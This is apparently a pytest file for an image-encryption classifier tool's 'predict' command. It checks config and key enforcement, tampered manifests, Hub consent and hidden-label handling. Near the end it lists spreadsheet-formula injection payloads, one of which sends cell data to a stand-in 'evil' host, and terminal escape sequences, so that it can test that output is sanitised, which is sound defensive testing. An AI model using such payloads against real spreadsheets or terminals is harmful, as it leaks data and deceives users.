"""`predict` on this machine: the owner's own record decides how queries are encrypted and what labels mean."""

import csv
import json
import re
from pathlib import Path

import pytest

from hf_neuracrypt import Classifier, SecretKey, load_encoder
from hf_neuracrypt.data.dataset import make_plan
from hf_neuracrypt.data.manifest import MANIFEST, checksum, read_manifest, to_text
from hf_neuracrypt.data.record import Record, seal_names
from hf_neuracrypt.errors import ConfigError, KeyMismatchError
from hf_neuracrypt.jobs.job import Job
from hf_neuracrypt.jobs.run import run
from hf_neuracrypt.prediction import classifier, files
from hf_neuracrypt.schemes import make_config
from tests.commands import assert_one_line_error, command, notes
from tests.helpers import SMALL, TINY_VIT, make_dataset, save_model


# Under each of them a ciphertext is nearly the picture, and the owner's key id, which is public, may stand beside it.
WEAK = [
    make_config("etc", {"image_size": 32, "block_size": 32}),
    make_config("le", {"image_size": 32, "block_size": 1}),
    make_config("pe", {"image_size": 32, "color_shuffle": False}),
    make_config("color-neuracrypt", {"image_size": 32, "patch_size": 8, "depth": 0, "width": 64}),
    make_config("color-neuracrypt", {"image_size": 32, "patch_size": 8, "depth": 2, "width": 16}),
]
OTHER = make_config("color-neuracrypt", {"image_size": 32, "patch_size": 8, "depth": 3, "width": 64})


def named(config) -> str:
    return config.to_json()


@pytest.fixture(scope="module")
def work(tmp_path_factory) -> Path:
    """An owner's key, photo, and encrypted folder with hidden labels, and a model that learned from it."""
    folder = tmp_path_factory.mktemp("predict")
    SecretKey.generate().save(folder / "a.key")
    key = SecretKey.load(folder / "a.key")
    splits = {"train": make_dataset(9)}
    assert run(Job(splits, make_plan(splits, load_encoder(SMALL, key), hide_labels=True), folder / "encrypted"))
    record = Record.from_dict(read_manifest(folder / "encrypted"))
    save_model(folder / "model", [f"class_{number}" for number in range(3)], record)
    make_dataset(1)[0]["img"].save(folder / "photo.png")
    return folder


def claim(folder: Path, *records: Record) -> Path:
    """A model that says it learned from images of these records; it needs no weights to be refused."""
    folder.mkdir()
    config = TINY_VIT | {"neuracrypt": [record.to_dict() for record in records]}
    (folder / "config.json").write_text(json.dumps(config))
    return folder


@pytest.fixture
def nothing_is_encrypted(monkeypatch):
    def encrypt(*_, **__):
        raise AssertionError("something was encrypted")

    for module in (classifier, files):
        monkeypatch.setattr(module, "encrypt_rows", encrypt)


def ask(work, *words, encrypted="encrypted", **environment):
    own = ("--encrypted", work / encrypted, "--key-file", work / "a.key", work / "photo.png")
    return command("predict", *own, *words, **environment)


def record_of(work) -> Record:
    return Record.from_dict(read_manifest(work / "encrypted"))


@pytest.mark.parametrize("config", [*WEAK, OTHER], ids=named)
def test_a_model_does_not_choose_the_cipher(config, work, tmp_path, nothing_is_encrypted):
    key = SecretKey.load(work / "a.key")
    refused = ask(work, "--model", claim(tmp_path / "evil", Record(config, key.id)))
    assert_one_line_error(refused, "another config", config.to_json(), SMALL.to_json(), "nothing was encrypted")
    assert not refused.stdout
    with pytest.raises(KeyMismatchError, match="another config"):
        Classifier.from_pretrained(str(tmp_path / "evil"), load_encoder(SMALL, key), record_of(work))


def test_nor_does_one_that_names_several(work, tmp_path, nothing_is_encrypted):
    """The owner's config among them is none of the others' business: the first of the owner's key counts."""
    key = SecretKey.load(work / "a.key")
    evil = claim(tmp_path / "evil", Record(WEAK[0], key.id), record_of(work))
    assert_one_line_error(ask(work, "--model", evil), "another config")


@pytest.mark.parametrize("config", WEAK, ids=named)
def test_a_record_below_the_floors_is_refused(config, work, tmp_path, nothing_is_encrypted):
    """As of a manifest that somebody changed, on the way or on the Hub."""
    key = SecretKey.load(work / "a.key")
    manifest = {name: value for name, value in read_manifest(work / "encrypted").items() if name != "sha256"}
    manifest |= Record(config, key.id).to_dict()
    (tmp_path / MANIFEST).write_text(to_text(manifest | {"sha256": checksum(manifest)}))
    claim(tmp_path / "model", Record(config, key.id))
    words = ("--key-file", work / "a.key", "--encrypted", tmp_path / MANIFEST, work / "photo.png")
    for asked in (("--model", tmp_path / "model"), ("--endpoint", "http://127.0.0.1:9")):
        assert_one_line_error(command("predict", *asked, *words), "hides next to nothing")
    with pytest.raises(ConfigError, match="hides next to nothing"):
        Classifier.from_pretrained(str(tmp_path / "model"), load_encoder(config, key))


def test_a_manifest_that_was_changed_alone_is_damaged(work, tmp_path):
    text = (work / "encrypted" / MANIFEST).read_text()
    (tmp_path / MANIFEST).write_text(text.replace('"depth": 2', '"depth": 1').replace('"depth":2', '"depth":1'))
    assert (tmp_path / MANIFEST).read_text() != text
    words = ("--key-file", work / "a.key", "--encrypted", tmp_path / MANIFEST, work / "photo.png")
    assert_one_line_error(command("predict", "--model", work / "model", *words), "is damaged")


def test_how_it_encrypts_is_said_and_always_asked_for(work):
    key = SecretKey.load(work / "a.key")
    result = ask(work, "--model", work / "model")
    assert result.returncode == 0, result.stderr
    assert f"Encrypting as {SMALL.to_json()} under the key {key.id}" in result.stderr
    file = ask(work, "--model", work / "model", encrypted=f"encrypted/{MANIFEST}")  # the file alone says as much
    assert file.returncode == 0 and file.stdout == result.stdout
    for encrypted in ("model", "photo.png"):  # a model's word is no owner's record
        assert_one_line_error(ask(work, "--model", work / "model", encrypted=encrypted), "is not encrypted")
    bare = command("predict", "--model", work / "model", "--key-file", work / "a.key", work / "photo.png")
    assert_one_line_error(bare, "--encrypted")


def test_a_folder_is_answered_by_a_table_with_a_word_before_and_after(work, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("a.png", "a longer name.png"):
        (tmp_path / name).write_bytes((work / "photo.png").read_bytes())
    words = ("--encrypted", work / "encrypted", "--key-file", work / "a.key", ".")
    shown = command("predict", "--model", work / "model", *words)
    said = f"Encrypting as {SMALL.to_json()} under the key {SecretKey.load(work / 'a.key').id}."
    asking = f"Asking {work / 'model'} about 2 images: "
    assert notes(shown) == [said, f"{asking}a line each, the best label first."]
    longer, short = shown.stdout.splitlines()
    assert short == longer.replace("a longer name.png", "a.png            ")  # the same photo
    labels = re.findall(r"  (0\.\d{3}) (cat  |dog  |horse)", f"{longer}  ")
    scores = [score for score, _ in labels]  # under some keys two labels have the same three digits
    assert len(set(labels)) == 3 and sorted(scores, reverse=True) == scores
    output = tmp_path / "answers.csv"
    written = command("predict", "--model", work / "model", *words, "--output", output)
    assert notes(written) == [said, f"{asking}into {output}.", f"Wrote {output}: the answers to 2 images."]


def test_parameters_from_the_hub_need_consent(published, owners, tmp_path, monkeypatch):
    environment = published.environment(tmp_path / "home")
    save_model(tmp_path / "model", ["cat", "dog", "horse"], Record.from_dict(read_manifest(owners / "one")))
    make_dataset(1)[0]["img"].save(tmp_path / "photo.png")
    words = ("--key-file", owners / "one.key", "--encrypted", "owner/photos", tmp_path / "photo.png")
    asked = ("predict", "--model", tmp_path / "model", *words)
    with monkeypatch.context() as patch:
        patch.setattr(files, "encrypt_rows", None)  # nothing is encrypted
        refused = command(*asked, **environment)
    assert_one_line_error(refused, "owner/photos on the Hub", "--yes")
    shown = f"Encrypting as {SMALL.to_json()} under the key {SecretKey.load(owners / 'one.key').id}"
    assert shown in refused.stderr and not refused.stdout
    agreed = command(*asked, "--yes", **environment)
    assert agreed.returncode == 0 and shown in agreed.stderr and agreed.stdout, agreed.stderr
    output = ("--output", tmp_path / "adapted")
    adapt = ("adapt", "--model", tmp_path / "model", "--dataset", "owner/photos", "--key-file", owners / "one.key")
    assert_one_line_error(command(*adapt, *output, **environment), "owner/photos on the Hub", "--yes")


def test_hidden_labels_have_the_names_of_the_owners_record(work, tmp_path):
    """Not those that a model carries, though they are sealed with the owner's key: of another dataset, say."""
    key = SecretKey.load(work / "a.key")
    neutral = [f"class_{number}" for number in range(3)]
    sealed = seal_names(key, dict(zip(neutral, ["ill", "well", "dead"])), "another dataset")
    save_model(tmp_path / "model", neutral, Record(SMALL, key.id, sealed))
    true = record_of(work).true_names(key)
    result = ask(work, "--model", tmp_path / "model", "--json")
    predictions = json.loads(result.stdout)["predictions"]
    assert {entry["label"] for entry in predictions} == set(true.values()) == {"cat", "dog", "horse"}
    stored = Classifier.from_pretrained(str(tmp_path / "model"), load_encoder(SMALL, key))
    with_record = Classifier.from_pretrained(str(tmp_path / "model"), load_encoder(SMALL, key), record_of(work))
    best = [each.predict([str(work / "photo.png")])[0][0]["label"] for each in (stored, with_record)]
    assert true[neutral[["ill", "well", "dead"].index(best[0])]] == best[1] == predictions[0]["label"]


FORMULAS = ['=HYPERLINK("http://evil/"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\x1b[2Jcat", "a,\nb"]


def test_a_spreadsheet_finds_no_formula_in_answers(work, tmp_path):
    """Neither in labels of a stranger's model nor in the names of files."""
    key, photo = SecretKey.load(work / "a.key"), tmp_path / "photos" / "=1+1.png"
    photo.parent.mkdir()
    photo.write_bytes((work / "photo.png").read_bytes())
    save_model(tmp_path / "model", FORMULAS, Record(SMALL, key.id))
    output = tmp_path / "answers.csv"
    words = ("--encrypted", work / "encrypted", "--key-file", work / "a.key", "--top-k", len(FORMULAS))
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(photo.parent)
        result = command("predict", "--model", tmp_path / "model", *words, photo.name, "--output", output)
    assert result.returncode == 0, result.stderr
    with open(output, newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert len(rows) == len(FORMULAS)
    for image, _, label, score in rows:
        assert not image.startswith(("=", "+", "-", "@")) and not label.lstrip().startswith(("=", "+", "-", "@"))
        assert image.isprintable() and label.isprintable() and 0 < float(score) < 1
    # What harmless text says is kept.
    assert {label.lstrip("'\N{REPLACEMENT CHARACTER}") for _, _, label, _ in rows} >= {"+1+1", "[2Jcat"}


def test_text_that_could_steer_a_terminal_is_not_printed(work, tmp_path):
    key = SecretKey.load(work / "a.key")
    save_model(tmp_path / "model", FORMULAS, Record(SMALL, key.id))
    photo = tmp_path / "a\x1b[2J\nb.png"
    photo.write_bytes((work / "photo.png").read_bytes())
    broken = tmp_path / "c\x1b[2J\nd.png"
    broken.write_bytes(b"no image")
    words = ("--encrypted", work / "encrypted", "--key-file", work / "a.key", "--top-k", 8)
    result = command("predict", "--model", tmp_path / "model", *words, photo, broken)
    assert result.returncode == 3, result.stderr
    (line,) = result.stdout.splitlines()
    assert line.isprintable() and "\x1b" not in result.stderr
    alone = command("predict", "--model", tmp_path / "model", *words, broken)
    assert_one_line_error(alone, "cannot be encrypted")
    assert "\x1b" not in alone.stderr
